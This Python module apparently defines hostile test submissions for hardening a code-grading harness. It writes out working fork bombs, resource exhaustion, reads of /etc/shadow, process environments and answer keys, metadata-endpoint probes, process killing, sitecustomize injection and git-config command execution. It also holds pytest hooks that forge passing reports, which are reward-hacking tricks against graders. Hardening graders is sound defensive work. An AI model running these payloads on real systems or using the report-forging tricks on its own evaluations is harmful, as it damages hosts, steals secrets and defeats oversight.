"""The attacks: an honest submission, with something put into it.

Each says what the report must say all the same. `first` is put before the app's code, `last` after it; `files` are
added or replaced. `only`: the criteria that matter, so that a grading takes seconds.
"""

from dataclasses import dataclass, field

STARTS = ("endpoint.starts",)
ENDPOINT = ("endpoint",)
TESTS = ("endpoint", "tests")
MARK = "HOSTILE-MARK"  # in whatever an attack leaves outside, if it can


@dataclass(frozen=True)
class Attack:
    """One hostile submission. `verdicts`: criterion → the status that is fair."""

    name: str
    verdicts: dict[str, str]
    first: str = ""
    last: str = ""
    files: dict[str, str] = field(default_factory=dict)
    only: tuple[str, ...] = ENDPOINT


PASSES = {"endpoint.starts": "passed", "endpoint.saves_to_s3": "passed", "endpoint.uses_prompt": "passed"}
FAILS = {"endpoint.starts": "failed"}

SECRETS = ("answer-key/**/*.py", "grader/rubric*.toml", "grader/criteria/*.py", "tests/grader/*.py")
_READS = """
import glob
found = []
for pattern in {patterns!r}:
    for path in glob.glob(pattern, recursive=True):
        try:
            found.append(open(path, errors="replace").read(200))
        except OSError:
            pass
print("{mark} found", found)
"""


def reads(*patterns: str) -> str:
    """Read whatever there is, and print it."""
    return _READS.format(patterns=patterns, mark=MARK)


ATTACKS: tuple[Attack, ...] = (
    # --- never ending, never enough
    Attack("endless loop at import", FAILS, first="while True: pass\n", only=STARTS),
    Attack(
        "SIGTERM ignored",
        PASSES,
        first="import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n",
    ),
    Attack(
        "fork bomb",
        FAILS,
        first="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        only=STARTS,
    ),
    Attack(
        "daemon by setsid",
        PASSES,
        first="import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', "
        f"'{MARK}'], start_new_session=True)\n",
    ),
    Attack(
        "four gigabytes",
        FAILS,
        first="taken = bytearray(4 * 1024**3)\nfor at in range(0, len(taken), 4096):\n    taken[at] = 1\n",
        only=STARTS,
    ),
    Attack(
        "disk filler",
        PASSES,
        first="try:\n    with open('filler', 'wb') as file:\n        while True: file.write(bytes(1 << 20))\n"
        "except OSError:\n    pass\n",
    ),
    Attack("a gigabyte printed", PASSES, first="for _ in range(1024): print('x' * (1 << 20))\n"),
    Attack(
        "huge headers",
        {"endpoint.starts": "failed"},
        last="""
from fastapi import Response

@app.middleware("http")
async def heavy(request, following):
    return Response("{}", headers={f"x-{number}": "y" * 60000 for number in range(40)})
""",
        only=STARTS,
    ),
    Attack(
        "endless bodies",
        {"endpoint.starts": "failed"},
        last="""
from fastapi.responses import StreamingResponse

def for_ever():
    while True:
        yield b"x" * 65536

@app.middleware("http")
async def endless(request, following):
    return StreamingResponse(for_ever())
""",
        only=STARTS,
    ),
    Attack("closed output", PASSES, first="import os\nos.close(1)\nos.close(2)\n"),
    # --- reading
    Attack(
        "reads the answer key and the rubric",
        PASSES,
        first=reads(
            *(f"{depth}/{name}" for depth in ("/*", "/*/*", "/*/*/*") for name in SECRETS),
            "/root/.*",
            "/etc/shadow",
        ),
    ),
    Attack("reads the environment of others", PASSES, first=reads("/proc/*/environ", "/proc/*/cmdline")),
    Attack(
        "reads other submissions",
        PASSES,
        first=reads("/tmp/**/*.py", "/home/**/*.py", "/*/main.py", "/*/*/main.py", "/*/*/*/main.py"),
    ),
    Attack(
        "calls the outside",
        PASSES,
        first=f"""
import socket
for address in (("169.254.169.254", 80), ("1.1.1.1", 443), ("example.com", 443), ("api.openai.com", 443)):
    try:
        socket.create_connection(address, 2)
        print("{MARK} reached", address)
    except OSError:
        pass
""",
    ),
    # --- other processes
    Attack(
        "kills its parents",
        FAILS,
        first="import os, signal\nfor number in (os.getppid(), 1, -1):\n    os.kill(number, signal.SIGKILL)\n",
        only=STARTS,
    ),
    Attack(
        "signals whatever it sees",
        PASSES,
        first="""
import os, signal
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(name), number)
            except OSError:
                pass
""",
    ),
    # --- the stand-ins
    Attack(
        "resets S3's stand-in",
        PASSES,
        first="""
import os, urllib.request
for path in ("/moto-api/reset", "/moto-api/data.json", "/moto-api/state-manager/set-transition"):
    try:
        request = urllib.request.Request(os.environ["AWS_ENDPOINT_URL"] + path, method="POST", data=b"")
        print("HOSTILE-MARK control", urllib.request.urlopen(request, timeout=5).status)
    except OSError:
        pass
""",
    ),
    Attack(
        "looks generated",
        {"endpoint.generates_text": "passed", "endpoint.saves_to_s3": "failed"},
        files={
            "main.py": """
import os
import uuid

import boto3
import openai
from fastapi import FastAPI
from pydantic import BaseModel, Field


class Wish(BaseModel):
    prompt: str = Field(min_length=1, max_length=2000, pattern=r"\\S", examples=["a haiku"])


app = FastAPI(title="Texts", version="1", description="Writes texts.")


@app.post("/texts", status_code=201)
def write(wish: Wish) -> dict[str, str]:
    openai.OpenAI(timeout=2, max_retries=0).responses.create(model="gpt-5.4-mini", input=wish.prompt)
    key = f"texts/{uuid.uuid4()}.txt"
    boto3.client("s3").put_object(
        Bucket=os.environ["S3_BUCKET_NAME"], Key=key, Body=b"the same every time", ContentType="text/plain"
    )
    return {"key": key}
"""
        },
    ),
    Attack(
        "a flood of calls",
        {},  # what its own flood does to it is its own affair
        first="""
import os, threading
import openai
def flood():
    client = openai.OpenAI(max_retries=0)
    while True:
        try:
            client.responses.create(model="gpt-5.4-mini", input="x" * 1000)
        except openai.OpenAIError:
            pass
for _ in range(4):
    threading.Thread(target=flood, daemon=True).start()
""",
    ),
    # --- what a submission claims of itself
    Attack(
        "lines like the grader's in its log",
        PASSES,
        first='print(\'{"ended": 1, "code": 0}\\nINTERNALERROR> File "/x/grader/inside/planting.py"\\n\\x1b[2J\\x1b]0;owned\\x07\')\n',
    ),
    Attack(
        "pytest that always exits with 0",
        {"tests.pass": "failed"},
        files={"conftest.py": "import os\n\ndef pytest_sessionstart(session):\n    os._exit(0)\n"},
        only=TESTS,
    ),
    Attack(
        "reports turned to passes",
        {"tests.happy_path": "failed"},
        files={
            "conftest.py": """
import pytest

@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
        },
        only=TESTS,
    ),
    Attack(
        "tests dropped after collection",
        {"tests.happy_path": "not_run", "tests.error_cases": "not_run"},
        files={
            "conftest.py": "def pytest_collection_modifyitems(items):\n    del items[1:]\n    items[0].obj = lambda **named: None\n"
        },
        only=TESTS,
    ),
    Attack(
        "a report of its own",
        {"tests.pass": "failed"},
        files={
            "conftest.py": """
import json, os

def pytest_collection_finish(session):
    names = ("dropped_write", "wrong_content_type", "swapped_bytes", "wrong_key", "s3_failing", "replaced_prompt")
    faults = [{"name": name, "kind": "text", "tests": 9, "caught": True} for name in names]
    forged = {"passed": 99, "failed": 0, "skipped": 0, "seconds": 1.0, "boundaries": {"s3": True, "openai": True, "app": True},
              "asked_for": ["text"], "outside": [], "faults": faults}
    for number in range(3, 64):
        try:
            os.write(number, json.dumps(forged).encode())
        except OSError:
            pass
    os._exit(0)
"""
        },
        only=TESTS,
    ),
    Attack(
        "a conftest that writes better tests",
        {"tests.pass": "passed", "tests.happy_path": "not_run"},
        files={
            "conftest.py": "from pathlib import Path\nPath(__file__).with_name('tests').joinpath('test_texts.py')"
            ".write_text('def test_fine():\\n    assert True\\n')\n"
        },
        only=TESTS,
    ),
    Attack(
        "edits the shared environment",
        PASSES,
        first=f"""
import glob, os, sys
for folder in [*sys.path, os.path.dirname(os.__file__), "/usr/bin"]:
    try:
        with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
            file.write("print('{MARK}')")
        if not folder.startswith(os.getcwd()):
            print("{MARK} wrote", folder)
    except OSError:
        pass
""",
    ),
    Attack(
        "a git folder with commands",
        {"secrets.not_in_code": "not_run"},  # what its commits hold can't be read
        files={
            "dot-git/HEAD": "ref: refs/heads/main\n",
            "dot-git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch /tmp/HOSTILE-MARK\n"
            "\tpager = touch /tmp/HOSTILE-MARK\n\tsshCommand = touch /tmp/HOSTILE-MARK\n\thooksPath = hooks\n"
            "[alias]\n\tlog = !touch /tmp/HOSTILE-MARK\n[diff]\n\texternal = touch /tmp/HOSTILE-MARK\n",
            "dot-git/objects/keep": "",
            "dot-git/refs/keep": "",
        },
        only=("secrets",),
    ),
    Attack(
        "a file named .git that leads elsewhere",
        {"secrets.not_in_code": "passed"},
        files={".git": "gitdir: /tmp/HOSTILE-MARK\n"},
        only=("secrets",),
    ),
)
